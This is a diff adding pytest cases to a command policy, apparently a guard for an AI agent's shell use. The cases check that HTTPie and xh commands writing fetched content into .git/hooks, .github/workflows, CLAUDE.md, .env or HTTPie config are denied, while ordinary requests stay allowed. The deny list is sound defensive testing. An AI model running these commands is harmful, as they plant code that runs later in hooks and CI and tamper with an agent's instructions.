@@ -32,8 +32,12 @@ run unsandboxed in a temporary directory against a control:
 from __future__ import annotations
 
 import base64
+import functools
 import os
+import shutil
 import subprocess
+import threading
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -562,4 +566,99 @@ ZSH_READINGS_OK = [
 
 @pytest.mark.parametrize("command", ZSH_READINGS_OK)
 def test_zsh_readings_everyday_stays_allowed(policy: Policy, ws: Path, command: str) -> None:
+    assert _v(policy, ws, command) is Verdict.ALLOW
+
+
+# ---- class 4: HTTPie reads options wherever they stand, and unique prefixes ----------------------
+def _httpie() -> str | None:
+    """HTTPie's `http`, if installed (the pass was shown with HTTPie 3.2.4 in a scratch venv)."""
+    found = shutil.which("http")
+    if found is None:
+        return None
+    out = subprocess.run([found, "--version"], capture_output=True, text=True, timeout=30)
+    return found if out.returncode == 0 and out.stdout[:1].isdigit() else None
+
+
+def test_httpie_options_after_the_url(policy: Policy, ws: Path, tmp_path: Path) -> None:
+    attacks = {
+        "AFTER": "http {url} --output=AFTER",
+        "ATT": "http {url} -oATT",
+        "S.json": "http {url} --session=./S.json",
+        "OUTP": "http --outp OUTP {url}",
+    }
+    for attack in attacks.values():
+        line = attack.replace("AFTER", ".git/hooks/a").replace("ATT", ".git/hooks/b")
+        line = line.replace("./S.json", ".git/hooks/c").replace("OUTP", ".git/hooks/d")
+        assert _v(policy, ws, line.format(url="https://x.example")) is Verdict.DENY, line
+    http = _httpie()
+    if http is None:
+        return  # decided above; the effect needs HTTPie (not installed by .ci/run)
+    (tmp_path / "served.txt").write_text("hello\n")
+    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(tmp_path))
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        url = f"http://127.0.0.1:{server.server_address[1]}/served.txt"
+        for name, attack in attacks.items():
+            argv = attack.format(url=url).split()
+            _sh(tmp_path, [http, *argv[1:]])
+            assert (tmp_path / name).exists(), attack
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+HTTPIE_OPTIONS = [
+    "http https://x.example --output=.git/hooks/pre-commit",
+    "http https://x.example --output .git/hooks/pre-commit",
+    "http https://x.example -o.git/hooks/pre-commit",
+    "http https://x.example -o .git/hooks/pre-commit",
+    "http https://x.example -bo.git/hooks/pre-commit",
+    "http https://x.example a=b -o.git/hooks/pre-commit",
+    "http POST https://x.example a=b --output=CLAUDE.md",
+    "http https://x.example --session=.git/hooks/x.json",
+    "http https://x.example --session .git/hooks/x.json",
+    "http https://x.example --session-read-only=.env",
+    "http https://x.example --download",
+    "http https://x.example -d",
+    "http https://x.example -vd",
+    "http --outp .git/hooks/pre-commit https://x.example",
+    "http --out=.git/hooks/pre-commit https://x.example",
+    "http --o .git/hooks/pre-commit https://x.example",
+    "http --down https://x.example/x",
+    "http --sessi .git/hooks/x.json https://x.example",
+    "http --pri Hh https://x.example",
+    "http --verb https://x.example",
+    "https --outp .git/hooks/pre-commit x.example",
+    "https x.example --output=.github/workflows/x.yml",
+    "xh https://x.example -o.git/hooks/pre-commit",
+    "xh https://x.example --output=.git/hooks/pre-commit",
+    "timeout 30 http https://x.example --output=.git/hooks/pre-commit",
+    "echo x > .config/httpie/config.json",
+    "echo x > .httpie/config.json",
+    "echo x > .config/xh/config.json",
+]
+
+
+@pytest.mark.parametrize("command", HTTPIE_OPTIONS)
+def test_httpie_options_are_read_anywhere(policy: Policy, ws: Path, command: str) -> None:
+    assert _v(policy, ws, command) is not Verdict.ALLOW
+
+
+HTTPIE_OK = [
+    "http https://x.example",
+    "http POST https://x.example a=b c:=1 X-Header:v",
+    "http --json POST https://x.example a=b",
+    "http -v --check-status --timeout 5 https://x.example",
+    "http https://x.example -o out.json",
+    "http -do out.json https://x.example",
+    "http --print=Hh https://x.example",
+    "http https://x.example -- -o=x",
+    "xh --bearer t https://x.example",
+]
+
+
+@pytest.mark.parametrize("command", HTTPIE_OK)
+def test_httpie_everyday_stays_allowed(policy: Policy, ws: Path, command: str) -> None:
     assert _v(policy, ws, command) is Verdict.ALLOW
